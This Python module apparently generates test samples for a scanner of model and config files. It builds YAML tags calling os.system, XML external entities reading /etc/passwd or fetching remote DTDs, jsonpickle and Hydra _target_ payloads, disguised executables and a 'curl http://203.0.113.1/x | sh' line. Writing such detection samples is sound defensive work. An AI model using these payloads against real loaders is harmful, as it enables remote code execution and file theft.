"""Configurations and documents: YAML tags, XML entities, JSON that names classes, programs in disguise."""

import json
import struct


def files():
    for name, technique, reference, expected, content in [*yamls(), *xmls(), *jsons(), *others()]:
        yield name, technique, reference, expected, content


def yamls():
    bad, tag = "malicious", "YAML tags of Python"
    for name, content in {
        "apply": "a: !!python/object/apply:os.system ['true']\n",
        "apply_mapping": "a: !!python/object/apply:os.system\n  args: ['true']\n",
        "new": "a: !!python/object/new:subprocess.Popen [['true']]\n",
        "object": "a: !!python/object:subprocess.Popen {args: 'true'}\n",
        "name": "a: !!python/name:os.system\n",
        "module": "a: !!python/module:os\n",
        "full_tag": "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n",
        "handle": "%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\na: !p!os.system ['true']\n",
        "nested": "a:\n  - b: {c: !!python/object/apply:os.system ['true']}\n",
        "key": "? !!python/object/apply:os.system ['true']\n: x\n",
        "second_document": "a: 1\n---\nb: !!python/object/apply:os.system ['true']\n",
        "percent": "a: !!python/object/apply:os%2Esystem ['true']\n",
        "tuple": "a: !!python/tuple [!!python/object/apply:os.system ['true']]\n",
        "hyperpyyaml_new": "a: !new:subprocess.Popen [['true']]\n",
        "hyperpyyaml_apply": "a: !apply:os.system ['true']\n",
        "ruby": "a: !ruby/object:Gem::Installer\n  i: x\n",
        "java": 'a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.1/"]]]]\n',
    }.items():
        yield (
            f"{name}.yaml",
            f"YAML: {name.replace('_', ' ')}",
            tag,
            bad if name not in ("name", "module", "ruby", "java") else "suspicious",
            content.encode(),
        )
    laughs = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10)
    )
    yield "laughs.yaml", "aliases of aliases", "billion laughs", "suspicious", laughs.encode()
    yield "deep.yaml", "5,000 brackets", "billion laughs", "suspicious", b"a: " + b"[" * 5000 + b"]" * 5000 + b"\n"


def xmls():
    bad, xxe = "malicious", "XML external entities"
    pmml = '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header copyright="{0}"/><DataDictionary/></PMML>'
    net = '<net name="{0}" version="11"><layers/><edges/></net>'
    for kind, body in (("pmml", pmml), ("openvino", net)):
        suffix = "pmml" if kind == "pmml" else "xml"
        root = "PMML" if kind == "pmml" else "net"
        for name, dtd, use, expected in (
            ("entity", '<!ENTITY x SYSTEM "file:///etc/passwd">', "", bad),
            ("entity_url", '<!ENTITY x SYSTEM "http://203.0.113.1/x">', "", bad),
            ("entity_public", '<!ENTITY x PUBLIC "a" "http://203.0.113.1/x">', "", bad),
            ("parameter", '<!ENTITY % p SYSTEM "http://203.0.113.1/x.dtd"> %p;', "", bad),
            (
                "laughs",
                '<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x "&c;&c;&c;&c;&c;&c;">',
                "",
                "suspicious",
            ),
        ):
            text = (
                f'<?xml version="1.0"?><!DOCTYPE {root} [{dtd}]>'
                + body.format("" if name == "parameter" else "a")
                + use
            )
            if name != "parameter":
                text = text.replace("</PMML>", "<Extension>&x;</Extension></PMML>").replace(
                    "</net>", "<meta>&x;</meta></net>"
                )
            yield f"{kind}_{name}.{suffix}", f"{kind}: {name.replace('_', ' ')}", xxe, expected, text.encode()
        external = f'<?xml version="1.0"?><!DOCTYPE {root} SYSTEM "http://203.0.113.1/x.dtd">' + body.format("a")
        yield f"{kind}_dtd.{suffix}", f"{kind}: a DTD elsewhere", xxe, bad, external.encode()
        utf16 = (
            f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            + body.format("a")
        )
        yield f"{kind}_utf16.{suffix}", f"{kind}: an entity in UTF-16", xxe, bad, utf16.encode("utf-16")
        yield (
            f"{kind}_deep.{suffix}",
            f"{kind}: 20,000 elements in each other",
            "XML",
            "suspicious",
            body.format("a")
            .replace("<DataDictionary/>", "<Extension>" * 20000 + "</Extension>" * 20000)
            .replace("<edges/>", "<a>" * 20000 + "</a>" * 20000)
            .encode(),
        )
    yield (
        "openvino_extension.xml",
        "a layer of an extension: needs native code",
        "OpenVINO",
        "suspicious",
        (
            b'<?xml version="1.0"?><net name="a" version="11"><layers><layer id="0" name="x" type="Evil" version="extension"><data path="../../evil.so"/></layer></layers><edges/></net>'
        ),
    )
    yield (
        "openvino_offset.xml",
        "a constant beyond the weights",
        "OpenVINO",
        "suspicious",
        (
            b'<?xml version="1.0"?><net name="a" version="11"><layers><layer id="0" name="x" type="Const" version="opset1"><data element_type="f32" shape="4" offset="18446744073709551600" size="16"/>'
            b'<output><port id="0" precision="FP32"><dim>4</dim></port></output></layer></layers><edges/></net>'
        ),
    )


def jsons():
    odd = "suspicious"
    text = lambda value: json.dumps(value).encode()  # noqa: E731
    yield (
        "jsonpickle_object.json",
        "jsonpickle: py/object",
        "jsonpickle",
        odd,
        text({"py/object": "subprocess.Popen", "args": "true"}),
    )
    yield (
        "jsonpickle_reduce.json",
        "jsonpickle: py/reduce",
        "jsonpickle",
        odd,
        text({"model": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}}),
    )
    yield "jsonpickle_repr.json", "jsonpickle: py/repr", "jsonpickle", odd, text({"py/repr": "os/os.system('true')"})
    yield (
        "target.json",
        "Hydra's _target_ in JSON",
        "CVE-2025-23304",
        odd,
        text({"model": {"_target_": "os.system", "command": "true"}}),
    )


def others():
    odd = "suspicious"
    yield (
        "java.ser",
        "a Java object",
        "Java deserialization",
        odd,
        b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16\x60\xd1\x03\x00\x02F\x00\nloadFactorI\x00\tthreshold",
    )
    yield (
        "program.bin",
        "a program named as weights",
        "native code",
        odd,
        b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(300),
    )
    yield (
        "windows.bin",
        "a program for Windows named as weights",
        "native code",
        odd,
        b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0\x64\x86" + bytes(300),
    )
    yield (
        "apple.bin",
        "a program for macOS named as weights",
        "native code",
        odd,
        b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(300),
    )
    yield "script.bin", "a script named as weights", "code", odd, b"#!/bin/sh\ncurl http://203.0.113.1/x | sh\n"
    yield (
        "seven.7z",
        "an archive that no loader of models reads",
        "containers",
        odd,
        b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24),
    )
    yield "marshal.pyc", "compiled Python", "code", odd, b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(60)
